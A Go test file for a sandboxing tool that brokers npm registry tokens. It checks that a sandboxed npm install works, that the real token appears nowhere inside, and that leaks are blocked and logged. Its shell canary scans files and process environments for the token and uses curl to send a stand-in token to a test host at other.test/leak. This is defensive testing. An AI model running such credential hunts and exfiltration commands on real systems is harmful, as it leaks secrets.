package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/sysprof/sysprof/internal/npmregistry"
	"github.com/sysprof/sysprof/internal/testutil"
)

// credsScript is the sandboxed command: npm install with the brokered token, then a canary
// that looks for the real token (a piece of it, $1: the whole value must not enter the
// sandbox even as the canary's argument) in every readable file outside /usr, /proc, /sys
// and /dev (the root itself is not listable: the trees are named),
// the environment and every process's environ, then an exfiltration attempt of the stand-in
// to a second allowed host.
const credsScript = `N=$1
npm install --no-audit --no-fund --no-update-notifier --cache="$PWD/.npm-cache" >npm.log 2>&1; echo "npm rc=$?"
S=$(sed -n 's#^//reg.test/:_authToken=##p' "$HOME/.npmrc")
case $S in '${NPM_TOKEN}') S=$NPM_TOKEN;; esac
echo "standin=$S"
echo "files: $(grep -rlsF -e "$N" "$HOME" "$HOME/.npmrc" "$PWD" /etc /tmp /var /run /root /home /opt /srv /mnt /dev/shm | tr '\n' ' ')"
echo "env: $(env | grep -cF -e "$N")"
echo "environ: $(for f in /proc/[0-9]*/environ; do grep -lsaF -e "$N" "$f"; done | tr '\n' ' ')"
curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $S" http://other.test/leak 2>/dev/null; echo "exfil rc=$?"
curl -sS -m 60 -o /dev/null https://reg.test/ready 2>/dev/null; echo "ready rc=$?"
`

// npm install from a token-protected registry (TLS, a test CA the host trusts) with the
// token brokered: the client succeeds, the canary inside finds no trace of the real token,
// the stand-in sent to a second allowed host is refused and reported critical, and every use
// is logged. As root and as an ordinary user.
func TestCredentialsNpmBrokered(t *testing.T) {
	brokeredRun(t, "credentials run", credsInNetns, "npm", "curl")
}

func credsInNetns(bin string) error {
	base, caFile, leaf, err := credsBase("sysprof-creds-", "reg.test")
	if err != nil {
		return err
	}
	defer os.RemoveAll(base)
	real := "npm_" + randomSecret(36)
	needle := real[4:20]
	var mu sync.Mutex
	var regSaw, otherSaw []string
	var onReady func() // what GET /ready runs (on the registry's goroutine) while the command waits
	ln, err := net.Listen("tcp", regAddr+":443")
	if err != nil {
		return err
	}
	_, srv := npmregistry.ServeWith(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{leaf}}), []string{"sysprof-probe"}, 1,
		npmregistry.Options{Base: "https://reg.test", Token: real, Seen: func(m, p, a string) {
			mu.Lock()
			regSaw = append(regSaw, m+" "+p+" "+a)
			probe := onReady
			mu.Unlock()
			if p == "/ready" && probe != nil {
				probe()
			}
		}})
	defer srv.Close()
	other, err := serveOther(&mu, &otherSaw)
	if err != nil {
		return err
	}
	defer other.Close()

	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(home, 0o755)
	pub, err := publicCopy(bin, base)
	if err != nil {
		return err
	}
	os.WriteFile(filepath.Join(work, "package.json"), []byte(`{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`), 0o644)
	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: npm-install, command: [npm, install], runs: 1, incomplete: false}",
		"  args:\n    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}\n",
		[]string{"reg.test:443", "other.test:80"}, []string{`{file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}`})), 0o644)

	var errs []string
	for _, nobody := range []bool{false, true} {
		mu.Lock()
		regSaw, otherSaw = nil, nil
		mu.Unlock()
		os.RemoveAll(filepath.Join(work, "node_modules"))
		os.Remove(filepath.Join(work, "package-lock.json"))
		// As root the token is in the store; as nobody the store refers to $NPM_TOKEN (CI's
		// habit), which holds it: then the variable is what carries the stand-in.
		npmrc, tokenEnv := "registry=https://reg.test/\n//reg.test/:_authToken="+real+"\n", "NPM_TOKEN=unused"
		if nobody {
			npmrc, tokenEnv = "registry=https://reg.test/\n//reg.test/:_authToken=${NPM_TOKEN}\n", "NPM_TOKEN="+real
		}
		os.WriteFile(filepath.Join(home, ".npmrc"), []byte(npmrc), 0o600)
		// The report (which names the canary's argument) is written outside the work tree.
		repFile := reportPath(base, fmt.Sprintf("rep-%v", nobody))
		cmd := exec.Command(pub, "enforce", "-p", "prof.yaml", "--report", repFile,
			"--resolve", "reg.test="+regAddr, "--resolve", "other.test="+regAddr, "--", "sh", "-c", credsScript, "sh", needle)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home, "SSL_CERT_FILE="+caFile, tokenEnv)
		if nobody {
			if err := asNobody(cmd, work, home); err != nil {
				return err
			}
		}
		// While the command waits for its GET /ready, the host looks at the processes of the
		// sandbox: sysprof's children (the init stage, PID 1 inside) and theirs must not hold
		// the real token in their environment.
		var outBuf bytes.Buffer
		cmd.Stdout, cmd.Stderr = &outBuf, &outBuf
		if err := cmd.Start(); err != nil {
			return err
		}
		inside, probed := "", false
		mu.Lock()
		onReady = func() { inside, probed = environsBelow(cmd.Process.Pid, needle), true }
		mu.Unlock()
		err := cmd.Wait()
		mu.Lock()
		onReady = nil
		mu.Unlock()
		out := string(outBuf.Bytes())
		who := map[bool]string{false: "root", true: "nobody"}[nobody]
		fail := func(f string, a ...any) {
			npmLog, _ := os.ReadFile(filepath.Join(work, "npm.log"))
			errs = append(errs, who+": "+fmt.Sprintf(f, a...)+"\noutput:\n"+out+"\nnpm.log:\n"+string(npmLog))
		}
		if err != nil {
			fail("enforce: %v", err)
			continue
		}
		lines := canaryLines(out)
		standIn := lines["standin"]
		switch {
		case lines["npm rc"] != "0":
			fail("npm install failed")
		case standIn == "" || strings.Contains(standIn, needle):
			fail("the .npmrc inside holds no stand-in, or the real token (%q)", standIn)
		case lines["files"] != "" || lines["env"] != "0" || lines["environ"] != "":
			fail("the canary found the real token: files %q, env %q, environ %q", lines["files"], lines["env"], lines["environ"])
		case lines["exfil rc"] == "0":
			fail("the stand-in reached other.test")
		case !probed:
			fail("the sandbox's processes were not looked at (no GET /ready)")
		case inside != "":
			fail("a process of the sandbox holds the real token in its environment: %s", inside)
		}
		if m, _ := os.ReadFile(filepath.Join(work, "node_modules", "sysprof-probe", "postinstall.txt")); string(m) != "ok" {
			fail("the package was not installed")
		}
		mu.Lock()
		reg, oth := strings.Join(regSaw, "\n"), strings.Join(otherSaw, "\n")
		mu.Unlock()
		if !strings.Contains(reg, "GET /sysprof-probe Bearer "+real) || standIn != "" && strings.Contains(reg, standIn) {
			fail("the registry did not get the real token (and only it):\n%s", reg)
		}
		if standIn != "" && strings.Contains(oth, standIn) {
			fail("other.test saw the stand-in:\n%s", oth)
		}
		rep, data, err := readReportFile(repFile)
		if err != nil {
			fail("%v", err)
			continue
		}
		crit := standInDenied(rep, "$HOME/.npmrc //reg.test/:_authToken")
		for _, d := range rep.Denials {
			crit = crit || strings.Contains(d.What, "stand-in") && strings.Contains(d.What, "to other.test")
		}
		if !crit {
			fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
		}
		used := false
		for _, u := range rep.CredentialUses {
			if u.Host == "reg.test:443" && u.Method == "GET" && u.Path == "/sysprof-probe" && u.Status == 200 && strings.HasSuffix(u.Binary, "/node") && u.BytesIn > 0 {
				used = true
			}
		}
		if !used {
			fail("the credential's use is not logged: %+v", rep.CredentialUses)
		}
		if strings.Contains(string(data), real) {
			fail("the report holds the real token")
		}
	}
	if len(errs) > 0 {
		return fmt.Errorf("%s", strings.Join(errs, "\n\n"))
	}
	return nil
}

// learn finds the flow (node reads ~/.npmrc, whose token is scoped to the registry it then
// connects to) and writes a credentials rule; enforce then installs from the token-protected
// plain-HTTP registry on loopback with the token brokered.
func TestCredentialsNpmLearnedLoopback(t *testing.T) {
	testutil.RequireRoot(t)
	npm := testutil.RequireTool(t, "npm")
	bin, err := sysprofBinary()
	if err != nil {
		t.Fatal(err)
	}
	base := t.TempDir()
	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(home, 0o755)
	real := "npm_" + strings.Repeat("r3al", 9)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var saw []string
	url, srv := npmregistry.ServeWith(ln, []string{"sysprof-probe"}, 1, npmregistry.Options{Token: real, Seen: func(m, p, a string) {
		mu.Lock()
		saw = append(saw, m+" "+p+" "+a)
		mu.Unlock()
	}})
	defer srv.Close()
	hostPort := strings.TrimSuffix(strings.TrimPrefix(url, "http://"), "/")
	testutil.WriteFile(t, filepath.Join(home, ".npmrc"), "registry="+url+"\n//"+hostPort+"/:_authToken="+real+"\n", 0o600)
	testutil.WriteFile(t, filepath.Join(work, "package.json"), `{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`, 0o644)
	install := []string{npm, "install", "--no-audit", "--no-fund", "--no-update-notifier", "--cache=" + filepath.Join(work, ".npm-cache")}
	run := func(args ...string) (string, error) {
		cmd := exec.Command(bin, args...)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	clean := func() {
		os.RemoveAll(filepath.Join(work, "node_modules"))
		os.Remove(filepath.Join(work, "package-lock.json"))
	}
	for range 2 { // a cold cache, then a warm one (what the enforced run has)
		out, err := run(append([]string{"learn", "-p", "npm.yaml", "--"}, install...)...)
		if err != nil {
			t.Fatalf("learn: %v\n%s", err, out)
		}
		if !strings.Contains(out, "credential flow(s) brokered") {
			t.Errorf("learn's review does not list the credential flow:\n%s", out)
		}
		clean()
	}
	prof, _ := os.ReadFile(filepath.Join(work, "npm.yaml"))
	if !strings.Contains(string(prof), "credentials:\n  - {file: $HOME/.npmrc, key: \"//"+hostPort+"/:_authToken\", hosts: [\""+hostPort+"\"], how: bearer, by: /usr/bin/node") {
		t.Fatalf("the learned profile has no credentials rule for %s:\n%s", hostPort, prof)
	}
	mu.Lock()
	saw = nil
	mu.Unlock()
	out, err := run(append([]string{"enforce", "-p", "npm.yaml", "--report", filepath.Join(base, "rep.json"), "--"}, install...)...)
	if err != nil {
		t.Fatalf("enforce: %v\n%s", err, out)
	}
	if b, err := os.ReadFile(filepath.Join(work, "node_modules", "sysprof-probe", "postinstall.txt")); err != nil || string(b) != "ok" {
		t.Errorf("not installed under enforce: %v\n%s", err, out)
	}
	mu.Lock()
	got := strings.Join(saw, "\n")
	mu.Unlock()
	if !strings.Contains(got, "GET /sysprof-probe Bearer "+real) {
		t.Errorf("the registry did not get the real token:\n%s", got)
	}
	rep := testutil.ReadReport(t, filepath.Join(base, "rep.json"))
	if len(rep.CredentialUses) == 0 || rep.CredentialUses[0].Status != 200 {
		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
	}
}
